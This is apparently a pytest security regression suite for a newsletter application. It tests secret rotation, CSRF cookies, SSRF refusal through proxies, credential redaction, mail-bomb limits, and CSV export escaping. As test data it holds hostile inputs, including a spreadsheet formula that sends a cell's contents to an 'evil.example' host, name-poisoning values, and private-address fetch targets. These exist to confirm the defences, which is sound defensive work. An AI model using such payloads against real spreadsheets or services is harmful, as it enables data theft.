"""The security review's findings (issue 24, and issue 23's change of secret): each test is the
attack or the mistake that worked before, against real parts (a project on disk, the web app,
real servers on loopback). docs/security.md says what is defended and how."""

from __future__ import annotations

import asyncio
import base64
import csv
import http.client
import http.server
import io
import logging
import os
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from datetime import UTC, datetime, timedelta
from ipaddress import ip_network
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlencode

import dns.message
import dns.rcode
import httpx
import pytest
from send_support import FaultyRelay, Relay
from starlette.testclient import TestClient
from test_signup import configured, link_token, mails, sign_up
from test_web import local, make_issue, message_to, one_click_url, send
from typer.testing import CliRunner
from web_support import SECRET, csrf_of, uvicorn_thread, web_client

from digest.cli import app
from digest.errors import DigestError
from digest.exports import cell
from digest.models import Subscriber
from digest.preview import Preview, PreviewServer
from digest.project import Project, init_project, open_project
from digest.signup import csrf_pair, read_confirmation
from digest.sources.errors import ParseError
from digest.sources.fetch import fetch, non_public_reason, use_proxy
from digest.tokens import MIN_SECRET_BYTES, load_secret, make_legacy_token, make_token

NEW_SECRET = "a-new-secret-of-at-least-thirty-two-bytes"
OTHER_SECRET = "another-secret-of-at-least-thirty-two-bytes"


def _cli(root: Path, *args: str) -> object:
    return CliRunner().invoke(app, ["--project", str(root), *args])


# -- 1. secrets: a change never silently breaks links already sent ------------------------------


@pytest.fixture
def file_secret_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    """A project that began as `digest init` leaves it: the automatic `.digest/secret`."""
    monkeypatch.delenv("DIGEST_SECRET", raising=False)
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS", raising=False)
    return init_project(tmp_path / "news")


def test_switching_to_digest_secret_keeps_the_links_already_sent(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    send(project, make_issue(project, "w1", "Week one"))
    assert len((project.state_dir / "secret").read_bytes()) >= MIN_SECRET_BYTES
    old_link = local(one_click_url(message_to(project, "linus@example.net", "Week one")))
    project.close()
    # the deploy docs say: set DIGEST_SECRET. The file's secret keeps verifying.
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    switched = open_project(project.root)
    response = web_client(switched).post(old_link, data={"List-Unsubscribe": "One-Click"})
    assert response.status_code == 200, response.text
    switched.close()


def test_a_secret_changed_without_keeping_the_old_one_stops_digest_until_the_operator_chooses(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    send(project, make_issue(project, "w1", "Week one"))
    old_link = local(one_click_url(message_to(project, "linus@example.net", "Week one")))
    project.close()
    monkeypatch.setenv("DIGEST_SECRET", OTHER_SECRET)  # NEW_SECRET is nowhere now
    result = _cli(project.root, "send", "1")
    assert result.exit_code == 2, result.output  # type: ignore[attr-defined]
    stderr = result.stderr  # type: ignore[attr-defined]
    assert "the signing secret changed" in stderr and "DIGEST_SECRET_PREVIOUS" in stderr
    assert NEW_SECRET not in stderr and OTHER_SECRET not in stderr
    changed = open_project(project.root)
    with pytest.raises(DigestError, match="the signing secret changed"):  # `digest serve`
        web_client(changed)
    changed.close()
    # choice one: keep the old secret as a verifier, and the old link works
    monkeypatch.setenv("DIGEST_SECRET_PREVIOUS", NEW_SECRET)
    kept = open_project(project.root)
    assert web_client(kept).get(old_link).status_code == 200
    kept.close()
    # choice two: retire it, knowing its links stop working
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS")
    status = _cli(project.root, "secret", "status")
    fingerprint = next(
        line.split()[0]
        for line in status.stdout.splitlines()
        if "no longer held" in line  # type: ignore[attr-defined]
    )
    assert _cli(project.root, "secret", "retire", fingerprint).exit_code == 0  # type: ignore[attr-defined]
    retired = open_project(project.root)
    assert web_client(retired).get(old_link).status_code == 400
    retired.close()


def test_an_empty_digest_secret_does_not_fall_back_to_the_file(
    file_secret_project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = file_secret_project
    monkeypatch.setenv("DIGEST_SECRET", "")
    empty = open_project(project.root)
    with pytest.raises(DigestError, match="DIGEST_SECRET is set but empty"):  # `digest serve`
        web_client(empty)
    empty.close()


def test_a_signing_secret_needs_32_bytes_and_a_shorter_one_can_still_verify(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    short = "sixteen-or-more-but-short"  # what the old 16-byte rule let through
    with pytest.raises(DigestError, match="at least 32 bytes.*DIGEST_SECRET_PREVIOUS") as caught:
        load_secret(tmp_path, short)
    assert short not in str(caught.value)
    monkeypatch.setenv("DIGEST_SECRET", short)
    monkeypatch.delenv("DIGEST_SECRET_PREVIOUS", raising=False)
    project = init_project(tmp_path / "news")
    (project.root / "outbox").mkdir(exist_ok=True)
    assert _cli(project.root, "send", "1").exit_code == 2  # type: ignore[attr-defined]
    # signed before the rule (as the old digest did): the message the operator keeps working
    old_token = make_token(short.encode(), "linus@example.net", "default")
    monkeypatch.setenv("DIGEST_SECRET", NEW_SECRET)
    monkeypatch.setenv("DIGEST_SECRET_PREVIOUS", short)
    moved = open_project(project.root)
    assert web_client(moved).get(f"/unsubscribe?token={old_token}").status_code == 200
    moved.close()
    project.close()


# -- 2. the sign-up form's clock tells nothing ---------------------------------------------------


def test_the_confirmation_is_mailed_after_the_response_has_gone(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through a real uvicorn and a real SMTP relay that takes seconds to accept the mail: the
    page arrives while the relay still holds the message, and the mail arrives after."""
    handler = FaultyRelay(slow_data={"ada@example.org": 1}, slow_seconds=3.0)
    relay = Relay(handler).start()
    try:
        monkeypatch.setenv("DIGEST_SMTP_URL", f"smtp://127.0.0.1:{relay.port}?starttls=no")
        reopened = configured(project)
        with (
            uvicorn_thread(reopened) as base,
            httpx.Client(base_url=base, headers={"Host": "127.0.0.1:8080"}) as browser,
        ):
            csrf = csrf_of(browser.get("/subscribe").text)
            page = browser.post("/subscribe", data={"csrf": csrf, "email": "ada@example.org"})
            assert page.status_code == 200 and "Check your inbox" in page.text
            assert handler.copies()["ada@example.org"] == 0  # the mail is still on its way
            deadline = time.monotonic() + 20
            while not handler.copies() and time.monotonic() < deadline:
                time.sleep(0.05)
        assert handler.copies()["ada@example.org"] == 1
        rows = reopened.store.subscriptions("ada@example.org")
        assert [row.status for row in rows.values()] == ["pending"]
        reopened.close()
    finally:
        relay.stop()


# -- 3. a mail bomb through address variants ----------------------------------------------------


def test_at_most_three_confirmations_reach_one_mailbox_however_it_is_spelled(
    project: Project,
) -> None:
    variants = [
        "victim@gmail.com",
        "victim+1@gmail.com",
        "victim+2@gmail.com",
        "v.ictim@gmail.com",
        "vi.c.tim+news@gmail.com",
        "VICTIM@gmail.com",
        "victim@googlemail.com",
        "v.i.c.t.i.m+99@googlemail.com",
    ]
    for number, address in enumerate(variants):
        # each from a client of its own (a /48 of its own), so only the mailbox's count holds
        client = web_client(project, client=(f"2001:db8:{number}::1", 40000))
        assert sign_up(client, address)[0] == 200
    assert len(mails(project)) == 3


def test_one_domain_gets_only_its_budget_of_confirmations(project: Project) -> None:
    limited = configured(
        project, ("confirmations_per_domain_hour = 50", "confirmations_per_domain_hour = 4")
    )
    for number in range(7):
        client = web_client(limited, client=(f"198.51.100.{number}", 40000))
        assert sign_up(client, f"person{number}@small.example.org")[0] == 200
    assert sign_up(web_client(limited), "ada@other.example.org")[0] == 200
    recipients = [str(m["To"]) for m in mails(limited)]
    assert len([r for r in recipients if r.endswith("@small.example.org")]) == 4
    assert "ada@other.example.org" in recipients
    limited.close()


def test_ipv6_clients_are_counted_by_their_48(project: Project) -> None:
    limited = configured(project, ("signups_per_client_hour = 20", "signups_per_client_hour = 3"))
    codes = [
        sign_up(web_client(limited, client=(f"2001:db8:7:{n}::1", 40000)), f"p{n}@example.org")[0]
        for n in range(1, 5)  # four /64s of one /48
    ]
    assert codes == [200, 200, 200, 429]
    assert sign_up(web_client(limited, client=("2001:db8:8::1", 40000)), "q@example.org")[0] == 200
    limited.close()


# -- 4. name poisoning ---------------------------------------------------------------------------


def _confirm(client: TestClient, token: str) -> None:
    shown = client.get("/confirm", params={"token": token})
    done = client.post("/confirm", data={"token": token, "csrf": csrf_of(shown.text)})
    assert done.status_code == 200 and 'id="confirmed"' in done.text


def _names(project: Project, email: str) -> list[str]:
    return [s.name for s in project.store.subscribers("example") if s.email == email]


def test_the_confirmed_row_takes_the_name_of_the_sign_up_that_was_confirmed(
    project: Project, client: TestClient
) -> None:
    stranger = web_client(project, client=("203.0.113.66", 40000))
    assert sign_up(stranger, "ada@example.org", name="=HYPERLINK(evil) Idiot")[0] == 200
    [first] = mails(project)
    strangers = link_token(first)
    assert sign_up(client, "ada@example.org", name="Ada Lovelace")[0] == 200
    [adas] = [link_token(m) for m in mails(project) if m["Message-ID"] != first["Message-ID"]]
    _confirm(client, adas)
    assert _names(project, "ada@example.org") == ["Ada Lovelace"]
    # a link made before names were bound keeps the row's name
    old = make_token(SECRET.encode(), "ada@example.org", "confirm:example", expires=_tomorrow())
    _confirm(client, old)
    assert _names(project, "ada@example.org") == ["Ada Lovelace"]
    assert read_confirmation([SECRET.encode()], strangers)[2] == "=HYPERLINK(evil) Idiot"


def _tomorrow() -> datetime:
    return datetime.now(UTC) + timedelta(days=1)


# -- 5. the CSRF cookie's prefix, and the complete special-purpose registries --------------------


def test_under_https_the_csrf_cookie_is_a_host_cookie(project: Project) -> None:
    secure = configured(
        project, ('base_url = "http://127.0.0.1:8080"', 'base_url = "https://news.example.org"')
    )
    client = web_client(secure)
    form = client.get("/subscribe")
    cookie = form.headers["set-cookie"]
    assert cookie.startswith("__Host-digest_csrf=")
    attributes = {part.strip().split("=")[0].lower() for part in cookie.split(";")[1:]}
    assert {"secure", "path", "httponly", "samesite"} <= attributes and "domain" not in attributes
    assert "path=/;" in cookie.lower().replace(" ", "") + ";"
    assert sign_up(client, "ada@example.org")[0] == 200  # the pair still works
    # a cookie without the prefix (planted by a sibling subdomain) does not pair with a form
    planted = web_client(secure, cookies={"digest_csrf": "0" * 32})
    data = {"csrf": csrf_pair(SECRET.encode(), "0" * 32), "email": "bo@example.org"}
    assert planted.post("/subscribe", data=data).status_code == 403
    secure.close()


@pytest.mark.parametrize(
    "address",
    [
        "192.0.0.9",
        "192.0.0.10",
        "192.88.99.1",
        "fec0::1",
        "3fff::1",
        "5f00::1",
        "64:ff9b:1::1",
        "100.64.0.1",
        "198.18.0.1",
        "2001:db8::1",
        "::ffff:192.0.0.9",
    ],
)
def test_special_purpose_addresses_are_not_public(address: str) -> None:
    assert non_public_reason(address) is not None


@pytest.mark.parametrize("address", ["93.184.215.14", "2606:4700::1111", "192.0.3.1"])
def test_public_addresses_stay_public(address: str) -> None:
    assert non_public_reason(address) is None


# -- 6. proxies do not get around the address checks ---------------------------------------------


class _Proxy(http.server.BaseHTTPRequestHandler):
    """A forward proxy's answer, without forwarding: it records each request line and answers
    it (a redirect to loopback for /redirect)."""

    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.seen.append(self.path)
        if self.path.endswith("/redirect"):
            self.send_response(302)
            self.send_header("Location", "http://127.0.0.1:9/internal")
            self.end_headers()
            return
        body = b"proxied page"
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def loopback_proxy() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Proxy)
    _Proxy.seen = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    use_proxy("")


def test_proxy_variables_in_the_environment_are_ignored(
    loopback_proxy: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "https_proxy", "HTTP_PROXY", "all_proxy"):
        monkeypatch.setenv(name, loopback_proxy)
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    # loopback allowed (where the proxy listens), the private target not
    loopback = [ip_network("127.0.0.1/32")]
    with pytest.raises(ParseError, match="10.1.2.3 is a private address"):
        fetch("http://10.1.2.3/admin", timeout=5, max_bytes=10_000, allow_private=loopback)
    assert _Proxy.seen == []


def test_a_configured_proxy_is_used_and_private_targets_are_still_refused(
    project: Project, loopback_proxy: str
) -> None:
    proxied = configured(project, ('# proxy = ""', f'proxy = "{loopback_proxy}"'))
    fetched = fetch("http://93.184.215.14/page", timeout=5, max_bytes=10_000)
    assert fetched.data == b"proxied page" and _Proxy.seen == ["http://93.184.215.14/page"]
    for target in ("http://10.1.2.3/admin", "http://[fec0::1]/", "http://93.184.215.14/redirect"):
        with pytest.raises(ParseError, match="refused to fetch"):
            fetch(target, timeout=5, max_bytes=10_000)
    assert _Proxy.seen == ["http://93.184.215.14/page", "http://93.184.215.14/redirect"]
    proxied.close()


# -- 7. no credential in a message or a log line -------------------------------------------------


def test_a_database_password_never_reaches_the_terminal(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a password holding a '/': the URL parser reads its first part as the port, and said so
    monkeypatch.setenv("DIGEST_DATABASE_URL", "postgresql://digest:s3cr/et-pw@127.0.0.1:5432/db")
    result = _cli(project.root, "store", "migrate")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert "s3cr" not in result.output and "et-pw" not in result.output  # type: ignore[attr-defined]
    # a password from the environment, quoted back by whatever failed, is masked
    monkeypatch.setenv("DIGEST_DATABASE_URL", "postgresql://digest@127.0.0.1:1/db")
    monkeypatch.setenv("DIGEST_DATABASE_PASSWORD", "hunter2-database-password")
    result = _cli(project.root, "store", "migrate")
    assert result.exit_code in (1, 2)  # type: ignore[attr-defined]
    assert "cannot open the state store" in result.output  # type: ignore[attr-defined]
    assert "hunter2" not in result.output  # type: ignore[attr-defined]


def test_log_lines_carry_no_credentials(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from digest.redact import install

    monkeypatch.setenv("DIGEST_SMTP_PASSWORD", "relay-password-123")
    install()
    log = logging.getLogger("digest.test")
    with caplog.at_level(logging.WARNING):
        log.warning("store failed: %s", "connection to postgresql://u:pg-pass@db/x failed")
        log.warning("libpq: host=db password=conninfo-pass dbname=x")
        try:
            raise OSError("login with relay-password-123 refused")
        except OSError:
            log.exception("the relay said no")
    for secret in ("pg-pass", "conninfo-pass", "relay-password-123"):
        assert secret not in caplog.text, secret
    assert "postgresql://u:***@db/x" in caplog.text


# -- 8. a co-tenant on PostgreSQL cannot hang every command -------------------------------------


def _digest(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m digest` as cron runs it; a hang fails the test instead of stalling it."""
    return subprocess.run(
        [sys.executable, "-m", "digest", "--project", str(root), *args],
        capture_output=True,
        text=True,
        timeout=90,
        env=dict(os.environ),
    )


def test_a_lock_held_by_another_session_fails_the_command_after_the_timeout(
    tmp_path: Path, postgres_url: str
) -> None:
    import psycopg
    from postgres_support import PASSWORD

    project = init_project(tmp_path / "news")
    config = project.config.path
    config.write_text(
        config.read_text()
        .replace('url = ""', f'url = "{postgres_url}"')
        .replace("# lock_timeout = 30", "lock_timeout = 1")
    )
    project.close()
    assert _digest(project.root, "store", "migrate").returncode == 0
    with psycopg.connect(postgres_url, password=PASSWORD) as other:  # another role's session
        other.execute("LOCK TABLE subscribers IN ACCESS EXCLUSIVE MODE")  # held: no commit
        done = _digest(project.root, "subscribers", "count")
        assert done.returncode == 1, done.stderr
        assert "waited 1 s for a lock held by another session" in done.stderr
        assert "Traceback" not in done.stderr
        other.rollback()
        other.execute("SELECT pg_advisory_lock(1684629349)")  # the migration lock, "dige"
        migrating = _digest(project.root, "store", "migrate")
        assert migrating.returncode == 1
        assert "waited 1 s for a lock held by another session" in migrating.stderr
    assert _digest(project.root, "subscribers", "count").returncode == 0


# -- 9. CSV exports open as text, and only for their owner ---------------------------------------


def test_an_export_escapes_formulas_and_is_written_owner_only(project: Project) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    project.store.subscribe(Subscriber("ada@example.net", hostile, "example"), origin="web")
    project.store.subscribe(Subscriber("bo@example.net", "@SUM(1+1)", "example"), origin="web")
    target = project.root / "export.csv"
    target.write_text("old\n")
    target.chmod(0o644)
    result = _cli(project.root, "subscribers", "export", "-o", str(target))
    assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(target.read_text()))}
    assert rows["ada@example.net"]["name"] == "'" + hostile
    assert rows["bo@example.net"]["name"] == "'@SUM(1+1)"
    # stdout too: a redirect into a file is an export
    printed = _cli(project.root, "subscribers", "export")
    assert "'=HYPERLINK" in printed.stdout  # type: ignore[attr-defined]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_escaped(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert cell("Ada = 1") == "Ada = 1"


# -- 10. the editor's desk opens only with its per-launch token ----------------------------------


def _request(
    server: PreviewServer, method: str, path: str, body: str = "", cookie: str = ""
) -> tuple[int, dict[str, str], str]:
    port = server.server_address[1]
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    headers = {"Host": f"127.0.0.1:{port}"}
    if body:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    if cookie:
        headers["Cookie"] = cookie
    try:
        connection.request(method, path, body=body or None, headers=headers)
        response = connection.getresponse()
        return response.status, dict(response.getheaders()), response.read().decode()
    finally:
        connection.close()


def test_another_local_user_cannot_read_or_drive_the_desk(tmp_path: Path) -> None:
    root = tmp_path / "news"
    init_project(root, with_examples=True).close()
    built = _cli(root, "build", "--as-of", "2026-11-20", "--limit", "3")
    assert built.exit_code == 0, built.output  # type: ignore[attr-defined]
    project = open_project(root)
    issue = project.store.latest_issue()
    assert issue is not None
    preview = Preview(issue, project.config, project.template_dirs, root=project.root)
    project.close()
    server = PreviewServer(preview, port=0)
    server.start_in_thread()
    drop = urlencode({"action": "drop", "position": "1", "csrf": server.csrf})
    try:
        # without the token (or with a wrong one): nothing to read, nothing changes
        for path in ("/desk", "/text", "/mail", "/version", "/desk?token=guess"):
            status, _, text = _request(server, "GET", path)
            assert status == 403 and issue.subject not in text, path
        assert _request(server, "POST", "/desk", drop)[0] == 403
        assert len(open_project(root).store.issue(issue.id).entries) == 3
        # the link printed at launch opens it, and leaves a cookie for the pages' own requests
        status, headers, page = _request(server, "GET", f"/desk?token={server.token}")
        assert status == 200 and "csrf" in page
        cookie = headers["Set-Cookie"].split(";")[0]
        assert cookie == f"{server.cookie_name}={server.token}"
        assert "HttpOnly" in headers["Set-Cookie"] and "SameSite=Strict" in headers["Set-Cookie"]
        assert _request(server, "GET", "/text", cookie=cookie)[0] == 200
        assert _request(server, "POST", "/desk", drop, cookie=cookie)[0] == 303
        assert len(open_project(root).store.issue(issue.id).entries) == 2
    finally:
        server.shutdown()
        server.server_close()


# -- 11. a slow resolver holds no worker thread --------------------------------------------------


@contextmanager
def held_dns() -> Iterator[tuple[tuple[str, int], threading.Event]]:
    """A DNS server on loopback that holds every query until the event is set, then answers
    each NXDOMAIN. Yields its address and the event."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.1)
    release, stop = threading.Event(), threading.Event()

    def serve() -> None:
        held: list[tuple[bytes, Any]] = []
        while not stop.is_set():
            with suppress(TimeoutError):
                held.append(sock.recvfrom(4096))
            while release.is_set() and held:
                wire, peer = held.pop()
                response = dns.message.make_response(dns.message.from_wire(wire))
                response.set_rcode(dns.rcode.NXDOMAIN)
                sock.sendto(response.to_wire(), peer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield sock.getsockname(), release
    finally:
        release.set()
        stop.set()
        thread.join(timeout=5)
        sock.close()


def test_sign_ups_waiting_on_a_slow_resolver_do_not_hold_the_other_pages_up(
    project: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    """More sign-ups than the server has worker threads, each waiting on a resolver that does
    not answer yet: the archive page (which needs a worker thread for the store) is answered
    while the resolver still holds every query."""
    for module in ("digest.maildomain", "digest.subscribers"):  # a deadline longer than the test
        monkeypatch.setattr(f"{module}.DNS_TIMEOUT", 60, raising=False)
    with held_dns() as ((host, port), release):
        checking = configured(
            project,
            ("check_dns = false", f'check_dns = true\ndns_server = "{host}:{port}"'),
            ("signups_per_client_hour = 20", "signups_per_client_hour = 0"),
        )
        safety = threading.Timer(12, release.set)  # the old code would wait the full minute
        safety.start()
        answered_while_held: list[bool] = []

        async def storm(base: str) -> None:
            async with httpx.AsyncClient(
                base_url=base, headers={"Host": "127.0.0.1:8080"}, timeout=90
            ) as browser:
                csrf = csrf_of((await browser.get("/subscribe")).text)

                async def sign_up(number: int) -> int:
                    data = {"csrf": csrf, "email": f"p{number}@slow.example.org"}
                    return (await browser.post("/subscribe", data=data)).status_code

                async def archive() -> None:
                    await asyncio.sleep(1.0)  # every sign-up is waiting on DNS by now
                    assert (await browser.get("/")).status_code == 200
                    answered_while_held.append(not release.is_set())
                    release.set()

                codes = await asyncio.gather(*(sign_up(n) for n in range(48)), archive())
                assert set(codes[:-1]) == {400}  # NXDOMAIN once answered: "does not exist"

        try:
            with uvicorn_thread(checking) as base:
                asyncio.run(storm(base))
        finally:
            safety.cancel()
            checking.close()
    assert answered_while_held == [True]


# -- 12. an unsubscribe link tells nobody whose it is -------------------------------------------


def test_a_link_does_not_reveal_its_reader_and_links_already_sent_still_work(
    project: Project,
) -> None:
    send(project, make_issue(project, "w1", "Week one"))
    message = message_to(project, "linus@example.net", "Week one")
    link = one_click_url(message)
    token = unquote(link.split("token=", 1)[1])
    # neither the token nor anything it decodes to names the address
    decoded = base64.urlsafe_b64decode(token + "=" * (-len(token) % 4))
    for seen in (token, link, decoded.decode("latin-1")):
        assert "linus" not in seen.lower()
    client = web_client(project)
    page = client.get(local(link))
    assert page.status_code == 200 and "linus@example.net" in page.text  # to its own reader
    # a link in a message sent before (the readable, signed kind) keeps working
    old = make_legacy_token(SECRET.encode(), "ada@example.org", "example")
    assert (
        client.post(
            "/unsubscribe", params={"token": old}, data={"List-Unsubscribe": "One-Click"}
        ).status_code
        == 200
    )
    assert project.store.suppression_reason("ada@example.org") == "unsubscribed"
